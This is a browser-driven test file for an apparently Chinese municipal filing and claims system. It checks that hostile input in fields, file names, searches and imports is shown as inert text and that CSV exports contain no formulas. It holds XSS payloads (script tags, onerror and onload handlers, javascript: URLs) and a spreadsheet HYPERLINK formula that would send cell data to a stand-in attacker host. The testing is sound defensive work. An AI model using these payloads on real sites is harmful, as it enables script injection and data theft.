// What is typed is text, wherever it comes from and wherever it is shown: every free field of every record that a desk records,
// names of files, what the city's staff types. Nothing of it runs, nothing is asked for elsewhere, and it reads as it was typed.
import assert from 'node:assert/strict';
import {execFileSync} from 'node:child_process';
import {mkdtempSync, readFileSync, rmSync, writeFileSync} from 'node:fs';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import {after, test} from 'node:test';

import {pdf, squash} from './paper.mjs';
import {bin, findIn, openPage, openTown} from './stage.mjs';

/** Long enough for some fields, short enough for others. */
const kTexts = ['<img src=x onerror="window.hurt=1">', '"\'><script>window.hurt=1</script>', '<svg/onload=window.hurt=1>{{7*7}}${hurt}', 'javascript:window.hurt=1//', '<b>粗</b>',
  '&lt;b&gt;&#x4F8B;&amp; %3Cscript%3E \\u003c', '𠮷𤋮'.repeat(24) + '𪚥', '请用 inbox amend (step x) check resolve', '=HYPERLINK("http://evil.example/?"&A1)'];
/** Nobody sees them, or they turn the direction of what follows: told, not kept. */
const kUnseen = ['例\u202e额金', '例\u200b样', '例\u2028一', '例\u0007样', '例\ufeff样', '例\u2066一\u2069'];
const bytes = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');

const errors = [];
const towns = [];
after(async () => {
  for (const town of towns) await town.close();
  assert.deepEqual(errors, []);
});

/** A page on which nothing may run, be asked for elsewhere, or pop up. */
async function watched(town, url) {
  const page = await openPage(town, 'about:blank', errors);
  page.on('dialog', (one) => { errors.push('a dialog: ' + one.message()); one.dismiss(); });
  page.on('popup', () => errors.push('a window'));
  page.on('request', (one) => { if (!one.url().startsWith(new URL(url).origin + '/') && !/^(blob|about):/.test(one.url())) errors.push('asked for ' + one.url()); });
  await page.addInitScript(() => document.addEventListener('securitypolicyviolation', (event) => console.error('policy: ' + event.violatedDirective + ' ' + event.blockedURI)));
  await page.goto(url);
  return page;
}

/** All that the page says, with what stands in its boxes. */
const says = (page) => page.evaluate(() => [document.body.textContent, ...[...document.querySelectorAll('input, textarea, select')].map((one) => one.value)].join('\n'));
async function clean(page, where) {
  const found = await page.evaluate(() => ({hurt: window.hurt || 0, made: document.querySelectorAll('#app script, #app svg[onload], #app [onerror], #app b[onclick], [href^=javascript]').length}));
  assert.deepEqual(found, {hurt: 0, made: 0}, where);
}

/** Hostile texts of a form, one of its lines' among them. */
const textsOf = (form) => [...new Set(Object.values(form).flatMap((value) => (Array.isArray(value) ? value.flatMap((row) => Object.values(row || {})) : [value])).filter((value) => kTexts.includes(value)))];

async function shows(page, texts, where) {
  const wants = (all) => { const text = [document.body.textContent, ...[...document.querySelectorAll('input')].map((one) => one.value)].join('\n'); return all.every((one) => text.includes(one)); };
  await page.waitForFunction(wants, texts, {timeout: 8000}).catch(() => {});
  const told = await says(page);
  assert.deepEqual(texts.filter((one) => !told.includes(one)), [], where);
  await clean(page, where);
}

/** Another page, once it is about this paper and no longer about the one before. */
async function turn(page, url, paper) {
  await page.goto(url);
  await page.waitForFunction((no) => [...document.querySelectorAll('.head .sub, .sheet, .note.warn')].some((one) => one.textContent.includes(no) || one.textContent.includes('没有可打印')), paper.doc_no);
}

/** Without what no font here can draw: that is printed as a code below. */
const onPaper = (text) => squash(text).replaceAll('𪚥', '');

/** Every page of the desk that shows the paper. */
async function atDesk(town, page, origin, paper, forms) {
  const texts = textsOf(paper.form);
  await turn(page, origin + '/#/show/' + paper.id, paper);
  await shows(page, texts, `${paper.type} as a record`);
  await turn(page, origin + '/#/print/' + paper.id, paper);
  const printed = new Set();
  let told = '';
  for (const tab of await page.$$('.tabs button')) {
    await tab.click();
    await clean(page, `${paper.type} on paper`);
    told += onPaper((await pdf(town.folder, page)).raw);
    const label = await tab.textContent();
    const form = forms(paper.type).find((one) => label.includes(one.title.replace(/\{\w+\}/, '')));
    for (const row of form.rows) {
      for (const line of row.lines ? paper.form[row.lines] || [] : [paper.form]) {
        for (const cell of row.cells.filter((one) => one.field && !one.as && !one.masked)) {
          const text = line[cell.field.split('|').find((name) => line[name])];
          if (kTexts.includes(text)) printed.add(text);
        }
      }
    }
  }
  assert.deepEqual([...printed].filter((one) => !told.includes(onPaper(one))), [], `${paper.type} on paper: ${told}`);
  return printed.size;
}

const open = async (...asked) => { const town = await openTown(...asked); towns.push(town); return town; };

for (const profile of ['daye', 'yantai']) {
  test(`${profile}: every free field of every paper, at the desk`, async () => {
    const town = await open(profile);
    const papers = await town.say('hostile ' + JSON.stringify(kTexts));
    town.papers = papers;
    assert.ok(papers.length >= 4);
    const refusals = papers.flatMap((one) => one.refused);
    for (const one of refusals) assert.ok(/[\u4e00-\u9fff]/.test(one.message) && /^([A-Z]-\d{3}|[A-Z_]+)$/.test(one.code) && !/[<>]/.test(one.message), JSON.stringify(one));
    assert.ok(papers.reduce((sum, one) => sum + textsOf(one.form).length, 0) > 20);
    for (const one of papers) {
      const kept = town.command(one.desk, ['show', one.id]).record;
      for (const [name, value] of Object.entries(one.form)) if (kTexts.includes(value)) assert.equal(kept[name], value, `${one.type} ${name}`);
    }
    let printed = 0;
    const desks = [...new Set(papers.map((one) => one.desk))];
    for (const data of desks) {
      const served = await town.serve(data);
      const page = await watched(town, served.url);
      await page.waitForSelector('.keys a');
      const forms = (type) => town.command(data, ['fields', type]).forms;
      for (const paper of papers.filter((one) => one.desk === data)) printed += await atDesk(town, page, served.origin, paper, forms);
      for (const path of ['', 'find', 'inbox', 'daily', 'clearing', 'status']) {
        await page.goto(served.origin + '/#/' + path);
        await page.waitForSelector('.head h1');
        await page.waitForTimeout(100);
        await clean(page, path);
      }
      // What is searched for is text, too, and finds.
      for (const text of [kTexts[0], kTexts[6]]) {
        await page.fill('#find', text);
        await page.press('#find', 'Enter');
        await shows(page, [text], 'what was searched for');
      }
      // A change begins with what stands there.
      const changed = papers.find((one) => one.desk === data && /Filing|PayeeAccount|Claim/.test(one.type));
      await page.goto(`${served.origin}/#/change/${changed.id}?event=amend&type=${changed.type}`);
      await page.waitForSelector('form.form input');
      const there = await page.$$eval('form.form input', (all) => all.map((one) => one.value));
      const asked = new Set(await page.$$eval('form.form [data-field]', (all) => all.map((one) => one.dataset.field)));
      for (const [name, value] of Object.entries(changed.form)) if (asked.has(name) && kTexts.includes(value)) assert.ok(there.includes(value), `${changed.type} ${name} as a change`);
      await clean(page, 'a change');
      await page.context().close();
      await served.stop();
    }
    assert.ok(printed > 8, `${printed} of the texts are printed`);
  });
}

test('what nobody sees, or turns what follows, is told by field and kept nowhere', async () => {
  const [town] = towns;
  for (const text of kUnseen) {
    let refused;
    try { town.command(town.desks.a, ['new', 'Filing', '--from', '-'], JSON.stringify({filing_kind: 'spouse', patient_name: text, remark: text, visit_institution_name: text, spouse_name: text, diagnosis: text})); } catch (no) { refused = JSON.parse(no.stdout); }
    const told = (refused.problems || []).filter((one) => ['S-218', 'S-209'].includes(one.code)).map((one) => one.field);
    for (const field of ['patient_name', 'remark', 'visit_institution_name', 'spouse_name', 'diagnosis']) assert.ok(told.includes(field), `${escape(text)} ${field}: ${JSON.stringify(refused)}`);
  }
});

test('a form typed with hostile texts: draft, names of files and scans', async () => {
  const [town] = towns;
  const served = await town.serve(town.desks.a);
  const page = await watched(town, served.url);
  await page.waitForSelector('.keys a');
  await page.goto(served.origin + '/#/new/Filing');
  await page.waitForSelector('form.form input[type=text]');
  const typed = await page.$$eval('form.form input[type=text]', (all) => all.map((one) => one.id));
  for (const [at, id] of typed.entries()) await page.fill('#' + id, kTexts[at % kTexts.length]);
  await page.press('#' + typed[typed.length - 1], 'Tab');
  await page.waitForSelector('text=草稿已自动保存');
  await page.waitForTimeout(300);
  const before = await page.$$eval('form.form input[type=text]', (all) => Object.fromEntries(all.map((one) => [one.id, one.value])));
  await page.keyboard.press('Escape');
  await page.click('text=接着填');
  await page.waitForFunction((id) => document.getElementById(id) && document.getElementById(id).value, typed[0]);
  const after_ = await page.$$eval('form.form input[type=text]', (all) => Object.fromEntries(all.map((one) => [one.id, one.value])));
  assert.deepEqual(after_, before);
  await clean(page, 'a draft');
  // Files: their names are said, whatever they are.
  const name = '<img src=x onerror=window.hurt=1>.csv';
  await page.setInputFiles('#hospital-file', {name, mimeType: 'text/csv', buffer: Buffer.from('姓名,<script>window.hurt=1</script>\n<svg/onload=window.hurt=1>,"x"\n')});
  await page.waitForFunction(() => document.querySelector('.main').textContent.includes('onerror') || document.querySelector('.main').textContent.includes('onload') || document.querySelector('.filewrong, .panel .t-act, .note.act') || document.querySelector('.main').textContent.includes('S-209'));
  await clean(page, 'a file of the hospital');
  await page.keyboard.press('Escape');
  const filing = town.papers.find((one) => one.type === 'Filing');
  await page.goto(served.origin + '/#/show/' + filing.id);
  await page.waitForSelector('#paper-kind');
  await page.selectOption('#paper-kind', {index: 1});
  await page.setInputFiles('.filter input[type=file] >> nth=0', {name: '"><script>window.hurt=1</script>.png', mimeType: 'image/png', buffer: bytes});
  await page.waitForSelector('.thumb, section[aria-label=材料] .note.act');
  await clean(page, 'a scan');
  await page.context().close();
  await served.stop();
});

test('at the city: record, explanation, queue, conflict, paper, lists, audit, tables, and what the staff types', async () => {
  const [town] = towns;
  const filing = town.papers.find((one) => one.type === 'Filing');
  const [mine, theirs] = ['<img src=y onerror=window.hurt=1>', '<svg/onload=window.hurt=2>'];
  await town.say('settle');
  await town.say('city stop'); // Two offline changes of one field make a conflict (K06).
  town.command(town.desks.a, ['amend', filing.id, '--from', '-'], JSON.stringify({marriage_cert_no: mine}));
  town.command(town.desks.county, ['amend', filing.id, '--from', '-'], JSON.stringify({marriage_cert_no: theirs}));
  await town.say('city start');
  await town.say('settle');
  const served = await town.serve(town.desks.a); // The desk that wrote first decides.
  const desk = await watched(town, served.url);
  await desk.waitForSelector('.keys a');
  await desk.goto(served.origin + '/#/inbox');
  await desk.waitForSelector('.inbox a');
  let told = '';
  for (const link of await desk.$$('.inbox a')) {
    await link.click();
    await desk.waitForTimeout(100);
    told += await says(desk);
    await clean(desk, 'an item of the desk\'s inbox');
  }
  for (const text of [mine, theirs]) assert.ok(told.includes(text), 'a conflict at the desk: ' + text);

  const city = new URL(town.city).origin;
  const page = await watched(town, town.city);
  await page.fill('[name=operator]', 'chief');
  await page.fill('[name=passphrase]', 'chief has a passphrase');
  await page.keyboard.press('Enter');
  await page.waitForSelector('.nav');
  for (const one of town.papers) {
    await turn(page, `${city}/#/show/${one.id}`, one);
    await shows(page, textsOf(one === filing ? {...one.form, marriage_cert_no: ''} : one.form), `${one.type} at the city`);
    await page.goto(`${city}/#/paper/${one.id}`);
    await page.waitForSelector('.sheet, .note, .paperbar');
    await clean(page, `${one.type} on paper at the city`);
  }
  for (const path of ['mine', 'conflicts', 'all', 'first', 'review', 'accounts', 'standing', 'queries', 'imports', 'audit', 'stats', 'staff', 'fleet', 'policy', 'batches', 'recoveries', 'deposits']) {
    await page.goto(`${city}/#/${path}`);
    await page.waitForSelector('.head h1');
    await page.waitForTimeout(150);
    await clean(page, path);
  }
  for (const text of [kTexts[6], kTexts[0]]) {
    await findIn(page, text);
    await page.waitForTimeout(150);
    await clean(page, 'find');
  }
  // The conflict, and a reason that is none.
  await page.goto(city + '/#/conflicts');
  await page.click('a:has-text("K06")');
  await page.waitForSelector('.diff');
  await shows(page, [mine, theirs], 'a conflict at the city');
  await desk.click('.inbox a:has-text("两人改同一内容")');
  await desk.click('.choice >> nth=0');
  await desk.fill('.panel .field input', kTexts[1]);
  await desk.keyboard.press('Control+Enter');
  await desk.waitForSelector('.toast:has-text("已裁定")');
  await desk.context().close();
  await served.stop();
  await town.say('settle');
  await page.goto(city + '/#/show/' + filing.id);
  await shows(page, [kTexts[1]], 'why it was decided so');
  // People, sites and files of theirs.
  const run = (...words) => execFileSync(join(bin, 'jindu-city'), ['--store', town.store, '--json', ...words], {input: ''});
  run('staff', 'add', 'x1', '--name', kTexts[4], '--role', 'first_reviewer', '--alone', kTexts[1]);
  run('site', 'add', '0077', '--kind', 'hospital_desk', '--name', kTexts[1], '--division', '420281', '--institution', 'H42028100003');
  await page.goto(city + '/#/staff');
  await page.waitForSelector('.table');
  await shows(page, [kTexts[4], kTexts[1]], 'the staff, and why one did it alone');
  await page.goto(city + '/#/fleet');
  await page.waitForSelector('.table');
  await clean(page, 'the computers');
  await page.goto(city + '/#/policy');
  await page.setInputFiles('input[type=file]', {name: kTexts[0] + '.textproto', mimeType: 'text/plain', buffer: Buffer.from('name: "' + '<img src=x onerror=window.hurt=1>' + '"\nx: <script>')});
  await page.waitForSelector('.note.act');
  await shows(page, [kTexts[0] + '.textproto'], 'a policy file');
  await page.goto(city + '/#/imports');
  await page.setInputFiles('input[type=file] >> nth=0', {name: kTexts[1] + '.csv', mimeType: 'text/csv', buffer: Buffer.from('身份证号码,姓名\n<img src=x onerror=window.hurt=1>,<svg/onload=window.hurt=1>\n')});
  await page.waitForSelector('.note, .table');
  await page.waitForTimeout(300);
  await clean(page, 'an import');
  // The tables as they are exported: a text that looks like a formula is none in a spreadsheet.
  const folder = mkdtempSync(join(tmpdir(), 'jindu-xss-'));
  try {
    const list = JSON.parse(run('report', 'list')).reports || [];
    let read = 0;
    for (const one of list) {
      const file = join(folder, one.report + '.csv');
      try { run('report', one.report, '--as', 'chief', '--format', 'csv', '--out', file); } catch { continue; }
      read += 1;
      for (const line of readFileSync(file, 'utf8').split(/\r?\n/)) assert.ok(!/(^|,)"?[=@]/.test(line.replace(/^\ufeff/, '')), one.report + ': ' + line);
    }
    assert.ok(read > 5, `${read} reports of ${list.length}`);
  } finally { rmSync(folder, {recursive: true, force: true}); }
  await page.context().close();
});

test('on the page for those outside: who has signed in, what is asked', async () => {
  const [town] = towns;
  const run = (words, input = '') => execFileSync(join(bin, 'jindu-city'), ['--store', town.store, '--json', ...words], {input});
  run(['staff', 'add', 'x2', '--name', kTexts[4], '--role', 'employer_clerk', '--employer', '91350100M000100Y43']);
  run(['staff', 'passphrase', 'x2', '--new-file', '-'], 'x2 has a passphrase\n');
  await town.say('city stop');
  const outside = await town.say('city start outside');
  const page = await watched(town, outside.lookup);
  for (const text of kTexts) {
    await page.fill('[name=number]', text);
    await page.fill('[name=tail]', text);
    await page.press('[name=tail]', 'Enter');
    await page.waitForSelector('.note.act');
    await clean(page, 'asked outside');
  }
  await page.fill('[name=operator]', 'x2');
  await page.fill('[name=passphrase]', 'x2 has a passphrase');
  await page.press('[name=passphrase]', 'Enter');
  await page.waitForSelector('[name=month]');
  await shows(page, [kTexts[4]], 'who has signed in');
  await page.context().close();
});
